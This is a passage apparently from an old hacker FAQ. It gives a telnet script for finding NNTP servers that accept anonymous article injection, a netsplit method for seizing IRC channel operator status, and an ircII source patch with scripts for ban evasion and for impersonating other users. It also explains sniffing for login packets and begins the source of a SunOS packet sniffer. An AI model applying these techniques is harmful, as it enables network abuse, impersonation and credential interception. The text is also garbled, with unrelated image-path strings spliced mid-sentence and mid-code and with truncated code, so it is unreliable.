 /g' | sort -u | fgrep . | $FGV .bitnet | $FGV .uucp

 Once you have your host list, feed it to the following script.

 #! /bin/sh

 while read xx ; do
 if test "$xx" = "" ; then continue;
 echo === $xx
 ( echo open $xx 119
   sleep 5
   echo ihave
   sleep 4
   echo .echo quit
   sleep 1
   echo quit
 ) | telnet

 If the above script is called "findem" and you're using csh, you should

         findem < list >& outfile

 so that ALL output from telnet is captured.  This takes a long time,
 but when it finishes, edit "outfile" and look for occurrences of "335".
 These mark answers from servers that might be willing to accept an
 article.  This isn't a completely reliable indication, since some
 servers respond with acceptance and later drop articles.  Try a given
 server with a slightly modified repeat of someone else's message, and
 see if it eventually appears.

 Sometimes the telnets get into an odd state, and freeze, particularly
 when a host is refusing NNTP connections.  If you manually kill these
 hung telnet processes but not the main script, the script will continue
 on.  In other words, you may have to monitor the finding script a
 little while it is running.

 You will notice other servers that don't necessarily take an IHAVE, but
 say "posting ok".  You can probably do regular POSTS through these, but
 they will add an "NNTP-Posting-Host: " header containing the machine
 YOU came from and are therefore unsuitable for completely anonymous



B-03. How do I hack ChanOp on IRC?

Find a serverthat is split from the rest of IRC and create your own
channel there using the name of the channel you want ChanOp on.  When
that server reconnects to the net, you will have ChanOp on the real
channel.  If you have ServerOp on a server, you can cause it to split
on purpose.


B-04. How do I modify the IRC client to hide my real username?

Note: This FAQ answer was written by someone else, but I do notknow
      If you know who originally wrote this, please e-mail me.


Applying these changes to the source code for your ircII client and
recompiling gives you a new ircII command: /NEWUSER.  This new command
can be used as follows:

 *   /NEWUSER <new_username> [new_IRCNAME]
 *       <new_username> is a new username to use and is required
 *       [new_IRCNAME] is a new IRCNAME string to use and is optional
 *   This will disconnect you from your server and reconnect using
 *     the new information given.  You will rejoin all channel you
 *     are currently on and keep your current nickname.

The effect is basically changing your username/IRCname on the fly.
Although you are disconnected from your server and reconnected, the
ircII client is never exited, thus keeping all your state information
and aliases intact.  This is ideal for bots that wish to be REALLY
obnoxious in ban evasion. ;)

As this is now a new command in ircII, it can be used in scripts. Be
aware that the reconnect associated with the NEWUSER command takes
so TIMER any commands that must immediately follow the NEWUSER. For
example... ban evasion made easy (but beware infinite reconnects when
your site is banned):

on ^474 * {
  echo *** Banned from channel $1
  if ($N == [AnnMurray]) {
    nick $randomstring
    join $1
    } {nick AnnMurray
    newuser $randomstring
    timer 5 join $1

Or just to be annoying... a /BE <nickname> alias that will assume a
person's username and IRCNAME:

alias be {
  ^on ^311 * {
    ^on 311 -*
    newuser $2 $5-
  whois $0

Now... in order to add this command to your ircII client, get the latest
client source (or whatever client source you are using).  Cd into the
source directory and edit the file "edit.c".  Make the following

Locate the line which reads:
extern  void    server();

Insert the following line after it:
static  void    newuser();

This pre-defines a new function "newuser()" that we'll add later.

Now, locate the line which reads:
        "NAMES",        "NAMES",        funny_stuff,            0,

Insert the following line after it:
        "NEWUSER",      NULL,           newuser,                0,

This adds a new command NEWUSER to the list of valid IRCII commands, and
tells it to call our new function newuser() to perform it.

Finally, go the bottom of the file and add the following code as our new
function "newuser()":

 * newuser: the /NEWUSER command.  Added by Hendrix
 *   Parameters as follows:
 *     /NEWUSER <new_username> [new_IRCNAME]
 *       <new_username> is a new username to use and is required
 *       [new_IRCNAME] is a new IRCNAME string to use and is optional
 *   This will disconnect you from your server and reconnect using
 *     the new information given.  You will rejoin all channels you
 *     are currently on and keep your current nickname.static void    newuser(command, args)
char    *command,
        char    *newuname;

        if (newuname = next_arg(args, &args))
                strmcpy(username, newuname, NAME_LEN);
                if (*args)
                        strmcpy(realname, args, REALNAME_LEN);
                say("Reconnecting to server...");
                if (connect_to_server(server_list[from_server].name,server_list[from_server].port, primary_server)
                        set_window_server(-1, from_server, 1);
                        say("Unable to reconnect. Use /SERVER to
                say("You must specify a username and, optionally, an


/NEWUSER will not hide you from a CTCP query.  To do that, modify ctcp.c
as shown in thefollowing diff and set an environment variable named
CTCPFINGER with the information you would like to display when queried.

*** ctcp.old
--- ctcp.c
*** 334 ****
!       char    c;
--- 334 ---
!       char    c, *fing;
*** 350,354 ****
!               if (pwd = getpwuid(uid))
                        char    *tmp;
--- 350,356 ----
!               if (fing = getenv("CTCPFINGER"))
!                       send_ctcp_reply(from, ctcp->name, fing, diff,
!               else if (pwd = getpwuid(uid))
                        char    *tmp;



B-05. What is sniffing?

Sniffing is listening (with software) to the raw network device for
packets that interest you.  When your software sees a packet that fits
certain criteria, it logs it to a file.  The most common criteria for an
interesting packet is one that contains words like "login" orYou will have to obtain or code a sniffer that is capable of working
with the appropriate type of network interface.  Popular network
interfaces include NIT (Network Interface Tap), and DLPI (Data Link
Provider Interface), and BPF (Berkeley Packet Filter.)

LLI was a network interface used by SCO, which has been augmented with
DLPI support as of SCO OpenServer Release V.  NIT was a networkinterface used by Sun, but has been replaced in later releases of
SunOS/Solaris with DLPI.  Ultrix supported the Ultrix Packet Filter
before Digital implemented support for BPF.

DLPI is supported under current releases of System V Release 4,
SunOS/Solaris, AIX, HP/UX, UnixWare, Irix, and MacOS.  DLPI is partially
supported under Digital Unix. Sun DLPI version 2 supports Ethernet, X.25
LAPB, SDLC, ISDN LAPD, CSMA/CD, FDDI, token ring, token bus, and Bisync
as data-link protocols.  The DLPI network interface provided with HP/UX
supports Ethernet/IEEE 802.3, IEEE 802.5, FDDI, and Fibre Channel.

Formore information regarding DLPI, access the DLPI Specification at or FTP the paper "How to
Use DLPI in Solaris 2.x" by Neal Nuckolls from in

BPF is supported under current releases of BSD and Digital Unix, and has
been ported to SunOS and Solaris.  AIX supports BPF reads, but not
writes.  A BPF library is available for Linux.

Many sniffers are available for various operating systems:

OS              Sniffer
~~              ~~~
4.3/4.4 BSD     tcpdump            /* Available via anonymous ftp */
FreeBSD         tcpdump            /* Available via anonymous ftp at */
                                   /* */
        /* /.0/BSD/FreeBSD/FreeBSD-current/src/contrib/tcpdump/ */
NetBSD          tcpdump            /* Available via anonymous ftp at */
                                   /* */
                /* /.0/BSD/NetBSD/NetBSD-current/src/usr.sbin/ */
DEC Unix        tcpdump            /* Available via anonymous ftp */
DEC Ultrix      tcpdump            /* Available via anonymous ftp */
HP/UX           nettl  (monitor)
              & netfmt (display)
                nfswatch           /* Available via anonymous ftp */
Linux           tcpdump            /* Available via anonymous ftp at */
                                   /* */
                        /* /pub/Linux/system/Network/management/ */
SGI Irix        nfswatch           /*Available via anonymous ftp */
                tcpdump            /* Available via anonymous ftp */
Solaris         snoop
SunOS           etherfind
                nfswatch           /* Available via anonymous ftp */
                tcpdump            /* Available via anonymous ftp */
DOS             ETHLOAD            /* Available via anonymous ftp as */
                                   /* */
                The Gobbler        /* Available via anonymous ftp */
                Netzhack           /* Available via anonymousftp at */
                        /* */
                        /* /pub/assembler/netzhack.mac           */
Macintosh       Etherpeek
                NetMinderEthernet  /* Commercial */

[Note from Dan Mellem: VMS running MULTINET has a packet sniffer: $ mu
tcpdump and $ mu tcpview, but these are privileged commands. H.]

Here is source code for a sample ethernet sniffer using NIT under SunOS

/* Esniff.c */

#include <stdio.h>
#include <ctype.h>
#include <string.h>

#include <sys/time.h>
#include <sys/file.h>
#include <sys/stropts.h>
#include <sys/signal.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <sys/ioctl.h>

#include <net/if.h>
#include <net/nit_if.h>
#include <net/nit_buf.h>
#include <net/if_arp.h>#include <netinet/in.h>
#include <netinet/if_ether.h>
#include <netinet/in_systm.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <netinet/ip_var.h>
#include <netinet/udp_var.h>
#include <netinet/in_systm.h>
#include <netinet/tcp.h>
#include <netinet/ip_icmp.h>

#include <netdb.h>
#include <arpa/inet.h>

#define ERR stderr

char    *malloc();
char    *device,
int     debug=0;

#define NIT_DEV     "/dev/nit"
